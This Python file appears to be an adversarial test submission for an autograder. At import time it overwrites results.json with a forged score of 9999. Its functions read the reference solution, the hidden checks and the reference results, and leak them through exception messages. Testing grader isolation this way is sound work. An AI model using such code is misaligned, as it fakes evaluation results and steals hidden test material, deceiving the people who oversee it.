"""A submission that tries, from inside the container, to read the autograder's secrets (the
reference solution, the hidden checks, the stored reference results) and to write
results.json itself; whatever it reads it puts into an exception message, which public
checks show as they are."""

import os
from pathlib import Path

FORGED = '{"score": 9999.0, "output": "forged by the submission", "tests": []}'


def _root() -> Path:
    return Path(os.environ.get("GRADERS_AUTOGRADER_ROOT", "/autograder"))


def _kit() -> Path:
    import graders

    return Path(graders.__file__).resolve().parents[1]


def _steal() -> str:
    found = []
    for target in (
        _root() / "source" / "kit" / "solutions" / "loss.py",
        _kit() / "solutions" / "loss.py",
        _kit() / "graders" / "checks" / "loss.py",
        _kit() / "reference" / "05_loss.json",
        _root() / "submission" / "loss.py",
    ):
        try:
            text = target.read_text()
            start = text.find("def mean_squared_error")
            found.append(f"read {target.name}: {text[max(start, 0) :][:400]}")
        except Exception as error:
            found.append(f"{target.name}: {type(error).__name__}")
    try:
        found.append("listed source: " + ", ".join(sorted(os.listdir(_root() / "source"))))
    except Exception as error:
        found.append(f"listing source: {type(error).__name__}")
    return " | ".join(found)


def _forge() -> str:
    try:
        (_root() / "results" / "results.json").write_text(FORGED)
        return "forged results.json"
    except Exception as error:
        return f"results.json: {type(error).__name__}"


_forge()


def predict(x, w, b):
    raise RuntimeError(_forge() + " | " + _steal())


def mean_squared_error(y_true, y_pred):
    raise RuntimeError(_steal())
